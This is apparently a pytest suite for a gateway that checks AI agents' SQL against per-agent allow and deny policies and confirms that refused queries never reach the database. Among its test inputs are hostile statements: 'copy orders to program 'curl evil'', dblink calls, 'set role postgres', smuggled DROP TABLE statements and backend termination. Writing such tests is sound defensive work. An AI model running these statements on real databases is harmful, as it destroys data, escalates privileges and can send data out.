"""SQL judged by a PostgreSQL grammar (issue 13), in real Envoy: run_sql, run_read_only_sql and
the migration endpoints with several agents; refusals name the statement and the class or object,
carry `sql`; nothing refused reaches upstream; the audit record names what ran."""
import json

import pytest

from harness import Gateway, sha256

P1 = "abcdefghijklmnopqrst"
KEYS = {
    "migrator": "sbp_5a1000000000000000000000000000000000000a",
    "analyst": "sbp_5a1000000000000000000000000000000000000b",
    "dba": "sbp_5a1000000000000000000000000000000000000c",
    "reader": "sbp_5a1000000000000000000000000000000000000d",
    "watcher": "sbp_5a1000000000000000000000000000000000000e",
}
AGENTS = [
    {"id": "migrator", "name": "Migrator", "projects": [P1], "access": {"database": "full"},
     "sql": {"allow": ["read", "write", "ddl"], "deny_schemas": ["auth", "vault"], "deny_functions": ["dblink"]}},
    {"id": "analyst", "name": "Analyst", "projects": [P1], "access": {"database": "full"},
     "sql": {"allow": ["read"], "deny_functions": ["pg_sleep"]}},
    {"id": "dba", "name": "DBA", "projects": [P1], "access": {"database": "full"}},
    {"id": "reader", "name": "Reader", "projects": [P1], "access": {"database": "read"}},
]
QUERY = f"/v1/projects/{P1}/database/query"
READ_ONLY = f"/v1/projects/{P1}/database/query/read-only"
MIGRATIONS = f"/v1/projects/{P1}/database/migrations"
JSON = [("content-type", "application/json")]


def policy(mode="enforce", agents=AGENTS):
    return {
        "mode": mode,
        "upstream": {"token_env": "SUPABASE_ACCESS_TOKEN"},
        "agents": [dict(a, key_sha256=sha256(KEYS[a["id"]])) for a in agents],
    }


@pytest.fixture(scope="module")
def gw():
    g = Gateway(policy())
    assert g.start_ok, g.envoy_log()[-3000:]
    yield g
    g.stop()


def send(gw, agent, path, body, method="POST"):
    text = json.dumps(body)
    before = len(gw.upstream_requests())
    r = gw.call(method, path, key=KEYS[agent], headers=JSON, body=text)
    after = gw.upstream_requests()
    return r, after[before:], text


CASES = [
    # (agent, path, body, status, code, sql classes)
    ("migrator", MIGRATIONS, {"query": "create table public.widgets (id bigint primary key);"
                                       " alter table public.widgets add column name text;", "name": "widgets"},
     None, None, ["ddl"]),
    ("migrator", MIGRATIONS, {"query": "create table public.w (id int); drop table public.orders", "name": "m"},
     403, "sql_not_allowed", ["ddl", "destroy"]),
    ("migrator", MIGRATIONS, {"query": "create table w (id int)", "name": "m", "rollback": "drop table w"},
     403, "sql_not_allowed", ["ddl", "destroy"]),
    ("migrator", QUERY, {"query": "insert into public.orders (id) values (1)"}, None, None, ["write"]),
    ("migrator", QUERY, {"query": "SELECT '--'; DROP TABLE t"}, 403, "sql_not_allowed", ["read", "destroy"]),
    ("migrator", QUERY, {"query": "select * from auth.users"}, 403, "sql_not_allowed", ["read"]),
    ("migrator", QUERY, {"query": "select * from dblink('host=x', 'select 1') as t(a int)"},
     403, "sql_not_allowed", ["read", "admin"]),
    ("migrator", QUERY, {"query": "do $$ begin delete from orders; end $$"}, 403, "sql_not_allowed", ["procedural"]),
    ("analyst", QUERY, {"query": "select o.id, sum(i.total) over (partition by o.customer_id) from orders o"
                                 " join items i on i.order_id = o.id where o.data->>'kind' = 'x'"},
     None, None, ["read"]),
    ("analyst", QUERY, {"query": "with d as (delete from orders where id = 1 returning *) select * from d"},
     403, "sql_not_allowed", ["read", "write"]),
    ("analyst", QUERY, {"query": "select pg_terminate_backend(pid) from pg_stat_activity"},
     403, "sql_not_allowed", ["read", "admin"]),
    ("analyst", QUERY, {"query": "set role postgres"}, 403, "sql_not_allowed", ["privilege"]),
    ("analyst", QUERY, {"query": "copy orders to program 'curl evil'"}, 403, "sql_not_allowed", ["admin"]),
    ("analyst", QUERY, {"query": "select pg_sleep(5)"}, 403, "sql_not_allowed", ["read"]),
    ("analyst", QUERY, {"query": "selec 1"}, 403, "sql_unparsed", ["admin"]),
    ("dba", QUERY, {"query": "drop table orders; vacuum full"}, None, None, ["destroy", "admin"]),
    ("dba", MIGRATIONS, {"query": "alter table orders drop column note", "name": "m"}, None, None, ["destroy"]),
    ("dba", QUERY, {"query": "drop tabel orders"}, 403, "sql_unparsed", ["destroy"]),
    ("reader", QUERY, {"query": "select count(*) from orders", "read_only": True}, None, None, ["read"]),
    ("reader", READ_ONLY, {"query": "select count(*) from orders"}, None, None, ["read"]),
    ("reader", QUERY, {"query": "select count(*) from orders"}, 403, "read_only_required", None),
    ("reader", QUERY, {"query": "select 1; truncate orders", "read_only": True}, 403, "sql_not_allowed",
     ["read", "destroy"]),
    ("reader", READ_ONLY, {"query": "explain analyze delete from orders where id = 1"}, 403, "sql_not_allowed",
     ["read", "write"]),
    ("reader", MIGRATIONS, {"query": "create table t (id int)", "name": "m"}, 403, "permission_denied", None),
]


@pytest.mark.parametrize("agent,path,body,status,code,sql", CASES)
def test_sql_through_envoy(gw, agent, path, body, status, code, sql):
    n = len(gw.audit_lines())
    r, upstream, text = send(gw, agent, path, body)
    if status is None:
        assert r.status < 300, r.body
        assert r.header("x-bollard-decision") == "allow"
        assert len(upstream) == 1 and upstream[0]["body"] == text, "the bytes judged are the bytes forwarded"
    else:
        assert r.status == status, r.body
        got = r.json()
        assert got["code"] == code, got
        assert got.get("sql") == sql, got
        assert upstream == [], "a refused body reached upstream"
    rec = gw.audit(expect=n + 1)[-1]
    assert rec["agent"] == agent and rec["reason"] == (code or rec["reason"]), rec
    assert rec.get("sql") == sql, rec
    assert body["query"] not in json.dumps(rec) or len(body["query"]) < 12, "no SQL text in the record"


def test_refusal_names_the_statement_and_the_class_or_object(gw):
    r, _, _ = send(gw, "migrator", MIGRATIONS, {"query": "create table public.w (id int); drop table public.orders"})
    m = r.json()["message"]
    assert m.startswith("Migrator may not apply a migration on project abcdefghijklmnopqrst: statement 2 of its SQL"
                        " (DROP TABLE public.orders) is destroy"), m
    assert 'sql.allow with "destroy" would allow it' in m
    r, _, _ = send(gw, "migrator", QUERY, {"query": "select * from \"AUTH\".users"})
    assert "refers to schema auth, which its sql.deny_schemas names" in r.json()["message"]
    r, _, _ = send(gw, "analyst", QUERY, {"query": "select PG_CATALOG.pg_sleep(1)"})
    assert "calls pg_sleep, which its sql.deny_functions names" in r.json()["message"]
    r, _, _ = send(gw, "analyst", QUERY, {"query": "selec 1"})
    assert "could not be parsed by the gateway's PostgreSQL grammar" in r.json()["message"]


def test_audit_summary_names_what_ran(gw):
    n = len(gw.audit_lines())
    r, _, _ = send(gw, "analyst", QUERY, {"query": "select * from public.orders"})
    assert r.status == 201
    rec = gw.audit(expect=n + 1)[-1]
    assert rec["summary"] == f"Analyst ran SELECT on public.orders on project {P1}: allowed (database: full).", rec
    assert rec["sql"] == ["read"] and rec["reason"] == "access_full"


def test_monitor_mode_records_refused_sql_and_forwards_it():
    with Gateway(policy("monitor", [a for a in AGENTS if a["id"] == "analyst"])) as g:
        assert g.start_ok, g.envoy_log()[-2000:]
        r = g.call("POST", QUERY, key=KEYS["analyst"], headers=JSON, body=json.dumps({"query": "drop table t"}))
        assert r.status == 201 and r.header("x-bollard-decision") == "deny"
        rec = g.audit(expect=1)[-1]
        assert (rec["reason"], rec["enforced"], rec["sql"]) == ("sql_not_allowed", False, ["destroy"])
